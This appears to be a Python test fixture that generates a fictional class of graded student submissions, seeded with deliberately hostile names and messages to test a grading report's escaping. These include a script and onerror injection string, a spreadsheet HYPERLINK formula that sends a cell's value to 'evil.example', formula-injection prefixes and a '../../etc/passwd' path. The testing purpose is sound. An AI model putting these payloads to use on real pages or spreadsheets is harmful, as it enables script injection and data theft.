"""A made-up class for the tests: some are right, some wrong in known ways, some odd, and some hostile."""

import random
from dataclasses import replace

from grading.classroom.records import AskedQuestion, ClassResults, Graded, Meta, Student
from grading.questions import ALL
from grading.record import CheckResult, Kind, Status

HOSTILE = '<script>window.hacked = 1</script>"\'><img src=x onerror="hacked=1"></title></style>{{ 7*7 }}'
NAMES = (
    HOSTILE,
    "=HYPERLINK(\"http://evil.example/?\"&A1)",
    "+1 234", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", " \n@x", "＝1+1", "|calc", "%0A",
    "\u202etxet desrever", "a\x00b\x1b[2Jc\x07", "x" * 3000, "CON", "nul.py", "../../etc/passwd", "..",
    "kim", "Kim",
    "Zoë Müller", "你好，世界", "Anna, \"the\" Doe", "a" * 80 + "1", "a" * 80 + "2",
)  # fmt: skip
META = Meta(
    id="madeup",
    questions=tuple(
        AskedQuestion(q.id, q.title, q.points, q.threshold, q.train_seconds, q.memory_mb, q.file) for q in ALL
    ),
    seed=4242424242,
    budget=1.0,
    sandbox="required",
    isolation="isolated (sandlock)",
    grader="0123456789abcdef" * 4,
    versions={"python": "3.12.3", "torch": "2.13.0"},
    source="downloads",
    created="2026-11-21T17:40:00+00:00",
)


def graded(question, lost: dict[str, CheckResult] | None = None, **fields: object) -> Graded:
    """A question of which all checks passed but those in `lost`, by their names."""
    checks = [
        (lost or {}).get(check.name)
        or CheckResult(check.name, check.title, check.points, check.points, Status.PASSED)
        for check in question.checks
    ]
    defaults = {"seconds": 1.5, "cpu_seconds": 1.2, "peak_memory_mb": 300.0, "isolation": META.isolation}
    defaults |= {"seed": META.seed, "finished": "2026-11-21T17:41:00+00:00"}
    return Graded(question.id, question.title, tuple(checks), **defaults | fields)


def wrong(check, status: Status = Status.FAILED, **fields: object) -> CheckResult:
    return CheckResult(check.name, check.title, 0.0, check.points, status, **fields)


def made_class(count: int, seed: int = 0) -> ClassResults:
    """`count` students: abilities differ, and so do the ways in which they lose points."""
    rng = random.Random(seed)
    students = [_student(rng, place) for place in range(count)]
    return ClassResults(META, tuple(sorted(students, key=lambda student: student.student)))


def _student(rng: random.Random, place: int) -> Student:
    name = NAMES[place] if place < len(NAMES) else f"Student {place:03}"
    student = Student(
        place + 1,
        f"id{place:03}" if place >= len(NAMES) else name,
        name,
        f"{place}/models.py",
        f"{place:064x}",
        section=("Tutorial A", "Tutorial B", HOSTILE, "")[place % 4],
        team=f"Team {place // 3}" if place % 9 < 3 else "",
        mark="hw3-main/src/models.py lay deeper down." if place % 37 == 5 else "",
        left_out=("helpers.py", f"{HOSTILE}.py") if place % 53 == 7 else (),
    )
    if place % 50 == 48:
        return replace(student, status="refused", reason="There is no models.py in it.", content="")
    if place % 50 == 49:
        return replace(student, status="missing", reason="Nothing came in.", source="", content="")
    ability = rng.betavariate(3, 2)
    questions = tuple(_question(rng, question, ability) for question in ALL)
    if place % 97 == 96:
        return replace(student, questions=questions[:4])
    if place % 60 == 59:
        student = replace(student, content=f"{place - 1:064x}", same_as=place)
    return replace(student, status="graded", questions=questions, late="2 h late" if place % 41 == 40 else "")


def _question(rng: random.Random, question, ability: float) -> Graded:
    hard = {"q6": 0.75, "q10": 0.6, "q8": 0.55}.get(question.id, 0.3)
    if rng.random() < ability + 0.4 - hard:
        return graded(question, seconds=rng.uniform(1, 30))
    check = rng.choice(question.checks)
    if rng.random() > ability + 0.4:
        message = f"{check.needs[0]} is still a stub (models.py:4)"
        every = {each.name: wrong(each, Status.NOT_ATTEMPTED, message=message) for each in question.checks}
        return graded(question, every)
    lost = {check.name: _lost(rng, question, check)}
    for other in question.checks[question.checks.index(check) + 1 :]:
        lost[other.name] = wrong(other, Status.SKIPPED, message=f"needs “{check.title}”")
    return graded(question, lost, seconds=rng.uniform(1, 90))


def _lost(rng: random.Random, question, check) -> CheckResult:
    kind = rng.choices((None, *Kind), (90, 6, 0, 1, 0.4, 3, 0.5, 0.4, 0.4, 0))[0]
    if kind:
        message = f"models.py:7, in run\n    while True: pass\n{kind.value} {HOSTILE}"
        return wrong(check, Status.ERROR, kind=kind, message=message, location="models.py:7")
    if rng.random() < 0.01:
        return wrong(check, Status.FAULT, message='File "/srv/grading/private.py", line 3\nKeyError: secret')
    evidence = {}
    if question.threshold and rng.random() < 0.2:
        evidence = {"accuracy": question.threshold - 0.001, "threshold": question.threshold, "spread": 0.002}
    names = [mistake.name for mistake in question.mistakes][:5]
    mistakes = (
        (names[min(int(rng.expovariate(0.7)), len(names) - 1)],) if names and rng.random() < 0.7 else ()
    )
    return wrong(
        check, message=f"It is wrong. {HOSTILE}", mistakes=mistakes, evidence=evidence,
        details=(("asked for", "970 of 1,000"), ("got", "943")), location="models.py:214, A.run",
    )  # fmt: skip
